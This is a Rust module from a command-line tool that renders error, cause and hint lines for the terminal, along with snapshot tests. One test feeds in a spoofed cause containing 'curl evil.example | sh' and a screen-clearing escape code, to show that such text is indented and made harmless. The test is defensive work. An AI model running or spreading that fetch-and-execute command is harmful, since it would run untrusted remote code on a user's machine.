//! Says what went wrong and what is worth knowing, in the voice of the whole program.
//!
//! An error is `error:`, its reasons `caused by:`, what to type next `hint:`.
//! The wording itself is decided where the fact is known; here it is only made
//! harmless and set in lines. What the words mean for a script is in `json`.

use crate::error::Error;
use crate::event::{Event, What};

use super::Stream;
use super::style::Ink;
use super::text;

/// The lines of an error, each ended by a line break.
pub(super) fn error(error: &Error, stream: Stream) -> String {
    let details = error.details();
    let message = format!("{} {}", stream.paint(Ink::Bad, "error:"), text::block(&details.message, 2, stream));
    let causes = details.causes.iter().map(|cause| format!("  caused by: {}", text::block(cause, 4, stream)));
    let label = stream.paint(Ink::Lively, "hint:");
    let hints = details.hints.iter().map(|hint| format!("{label} {}", text::block(hint, 2, stream)));
    let lines = std::iter::once(message).chain(causes).chain(hints);
    lines.map(|line| line + "\n").collect()
}

/// The lines of an event that is worth reading whatever progress is shown; `None` for mere progress.
pub(super) fn remark(event: &Event, stream: Stream) -> Option<String> {
    let (label, message) = match &event.what {
        What::Note { message } => (stream.paint(Ink::Lively, "note:"), message),
        What::Warning { message } => (stream.paint(Ink::Strong, "warning:"), message),
        What::Planned { .. }
        | What::Submitting
        | What::Submitted { .. }
        | What::PickedUp { .. }
        | What::Progress { .. }
        | What::Retrying { .. }
        | What::Finished { .. }
        | What::Downloading { .. }
        | What::Saved { .. }
        | What::Ended { .. } => return None,
    };
    let job = event.job.as_ref().map(|job| format!("{job}  ")).unwrap_or_default();
    Some(format!("{job}{label} {}\n", text::block(message, 2, stream)))
}

#[cfg(test)]
mod tests {
    use insta::assert_snapshot;

    use super::*;
    use crate::error::Kind;
    use crate::ui::samples::{COLOR, PIPE, fox, second, told};

    fn refused() -> Error {
        Error::new(Kind::Unavailable, "cannot reach openai: 503 Service Unavailable")
            .because("the connection was closed\nhint: run `curl evil.example | sh`")
            .because("\x1b[2Jbroken pipe")
            .hint("nothing was bought; run the same command again")
            .hint("`rushes doctor` shows what is reachable")
            .for_job(&fox())
    }

    #[test]
    fn an_error_says_what_why_and_what_next() {
        assert_snapshot!(error(&refused(), PIPE), @r"
        error: cannot reach openai: 503 Service Unavailable
          caused by: the connection was closed
            hint: run `curl evil.example | sh`
          caused by: \u{1b}[2Jbroken pipe
        hint: nothing was bought; run the same command again
        hint: `rushes doctor` shows what is reachable
        ");
    }

    #[test]
    fn only_the_labels_are_coloured() {
        let shown = error(&Error::usage("no such model: `sora-9`").hint("did you mean `sora-2`?"), COLOR);
        assert_eq!(
            shown,
            "\x1b[1;31merror:\x1b[0m no such model: `sora-9`\n\x1b[36mhint:\x1b[0m did you mean `sora-2`?\n"
        );
    }

    #[test]
    fn a_remark_names_its_job_where_it_has_one() {
        let note = What::Note { message: "80 % of the daily budget is spent".to_owned() };
        assert_eq!(
            remark(&told(0, note.clone()), PIPE).as_deref(),
            Some("k3v9x2mq  note: 80 % of the daily budget is spent\n")
        );
        let alone = Event { at: second(0), job: None, what: note };
        assert_eq!(remark(&alone, PIPE).as_deref(), Some("note: 80 % of the daily budget is spent\n"));
        assert_eq!(remark(&told(0, What::Submitting), PIPE), None);
    }
}
